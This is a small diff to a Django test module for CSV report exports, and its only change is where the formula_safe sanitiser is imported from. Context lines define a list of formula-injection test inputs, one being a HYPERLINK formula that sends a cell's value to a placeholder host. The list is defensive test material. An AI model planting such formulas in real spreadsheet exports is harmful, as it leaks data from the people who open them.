@@ -11,10 +11,11 @@ import pytest
 from django.urls import reverse
 
 from reports.bundles import INT, JP, TEXT, Bundle, Column, View
-from reports.exports import export_csv, formula_safe
+from reports.exports import export_csv
 from reports.selectors import ReportFilters
 from reports.tests.factories import make_city
 from shell.people.tests.factories import UserFactory, hr_user
+from shell.spreadsheets import formula_safe
 
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]
 
